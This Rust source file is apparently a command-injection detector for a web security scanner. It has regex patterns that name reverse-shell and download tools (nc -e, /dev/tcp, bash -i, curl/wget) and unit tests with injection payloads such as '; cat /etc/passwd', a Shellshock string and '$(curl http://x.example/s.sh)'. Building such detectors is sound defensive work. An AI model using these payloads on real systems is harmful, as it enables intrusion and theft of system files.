//! OS command injection: the shell tokeniser of `palisade-lexers` first,
//! then command separators followed by commands that matter, command
//! substitution, `${IFS}` tricks, glob-spelled binaries (`/???/c?t`) and
//! quote-split commands (`w'h'o'am'i`), read on the normalized value.

use palisade_core::Severity;

use super::{Hit, Lazy, Subject};

static SEPARATED: Lazy = Lazy::new(concat!(
    r"(^|[;|&`\n]|\$\(|\|\||&&)\s*(\\?/?(usr/)?(local/)?s?bin/)?",
    "(cat|tac|nl|head|tail|more|less|ls|id|whoami|uname|hostname|ifconfig|ipconfig|netstat|ps|wget|curl|fetch|lwp-download|nc|ncat|netcat|socat|telnet|ssh|scp|bash|sh|zsh|ksh|csh|dash|python[23]?|perl|ruby|php|node|lua|ping|nslookup|dig|rm|chmod|chown|mkfifo|mknod|sleep|echo|printf|touch|cp|mv|find|xargs|base64|xxd|openssl|crontab|useradd|kill|pkill|env|sudo|su|powershell|pwsh|certutil|bitsadmin|wmic|systeminfo|tasklist|taskkill)",
    r"(\s+[-/~.$'`\w]|\s*$|\s*[;|&`)<>])",
));
static STRONG: Lazy = Lazy::new(concat!(
    r"\$\(\s*[a-z/]|`\s*[a-z/][^`]*`|\$\{ifs\}|\$ifs\b|\$\{?path:|\$\{?home\b",
    r"|/bin/(ba|z|da|k|c)?sh\b|/usr/bin/\w|\bcmd(\.exe)?\s*/[ck]\b|\bpowershell(\.exe)?\s+-|\b(nc|ncat|netcat)\s+(-[a-z]*e|-l)",
    r"|/[a-z?*]{0,3}[?*][a-z?*]{0,3}/[a-z?*]*[?*]|\(\)\s*\{\s*[:;]",
    r"|[;|&]\s*(\w+\s*=\s*\S+\s*;)?\s*(wget|curl)\s+\S+|\b(wget|curl)\s+(-\w+\s+)*https?://\S+\s*(\||;|-o|>)",
    r"|>\s*/dev/tcp/|\b(bash|sh)\s+-i\b|\bxterm\s+-display|\bmkfifo\s+/tmp/",
));

pub fn detect(s: &Subject<'_>) -> Option<Hit> {
    if let Some(m) = palisade_lexers::shell_injection(s.decoded) {
        let msg = match &m.command {
            Some(c) => format!("command injection ({}, runs {c})", m.reason),
            None => format!("command injection ({})", m.reason),
        };
        return Some(Hit::new("cmdi", "cmdi.lexer", Severity::Critical, m.confidence.max(60), msg).near(s.decoded, 0));
    }
    let lower = s.lower;
    if !lower.bytes().any(|b| matches!(b, b';' | b'|' | b'&' | b'`' | b'$' | b'\n' | b'/' | b'(' | b'\\' | b'\'' | b'"')) {
        return None;
    }
    if let Some(at) = STRONG.find(lower) {
        return Some(Hit::new("cmdi", "cmdi.shape", Severity::Critical, 90, "command injection").near(lower, at));
    }
    // separators only count when the value is not prose: `dog; cat` is English
    if let Some(at) = SEPARATED.find(lower)
        && at_separator(lower, at)
    {
        return Some(Hit::new("cmdi", "cmdi.shape", Severity::Critical, 85, "command injection").near(lower, at));
    }
    // quote- and backslash-split commands: w'h'o'am'i, c\at
    if lower.bytes().any(|b| matches!(b, b'\'' | b'"' | b'\\')) {
        let joined: String = lower.chars().filter(|c| !matches!(c, '\'' | '"' | '\\')).collect();
        if joined.len() + 2 <= lower.len()
            && let Some(at) = STRONG.find(&joined).or_else(|| SEPARATED.find(&joined).filter(|&a| at_separator(&joined, a)))
        {
            return Some(Hit::new("cmdi", "cmdi.shape", Severity::Critical, 85, "command injection split by quotes").near(&joined, at));
        }
    }
    None
}

/// The match at `at` starts at a real separator with a command-like
/// continuation, not at the start of plain words.
fn at_separator(lower: &str, at: usize) -> bool {
    let b = lower.as_bytes();
    match b.get(at) {
        Some(b';' | b'|' | b'&' | b'`' | b'\n' | b'$') => {
            // `; cat /etc/passwd`, `| id`, but not "salt; pepper; cat food"
            let rest = lower.get(at + 1..).unwrap_or("").trim_start();
            let word_end = rest.find(|c: char| !c.is_ascii_alphanumeric() && c != '/' && c != '_').unwrap_or(rest.len());
            let after = rest.get(word_end..).unwrap_or("").trim_start();
            after.is_empty() && rest.len() <= 12
                || after.starts_with(['-', '/', '~', '.', '$', '`', '|', ';', '&', '>', '<', '\'', '"'])
                || b.get(at) != Some(&b';')
        }
        // start of value: only a command with arguments that look like a command line
        _ => {
            let rest = lower.get(at..).unwrap_or("");
            rest.contains(" /") || rest.contains(" -") || rest.contains('|') || rest.contains(';') || rest.contains('`') || rest.contains("$(")
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detectors::test_util::run;

    #[test]
    fn shapes() {
        for a in ["; cat /etc/passwd", "| id", "`whoami`", "$(curl http://x.example/s.sh)", "127.0.0.1;ls -la", "a;w'h'o'am'i", "cat${IFS}/etc/passwd", "/???/c?t /???/p??s??", "() { :; }; /bin/bash -c id", "& ping -c 10 127.0.0.1 &"] {
            assert!(run(detect, a).is_some(), "{a}");
        }
        for b in ["salt; pepper; cat food", "Tom & Jerry", "rock | paper", "R&D; net income up", "ls", "echo park", "It's 5$ (cash)", "the cat sat", "I'd like to id myself"] {
            assert!(run(detect, b).is_none(), "{b}");
        }
    }
}
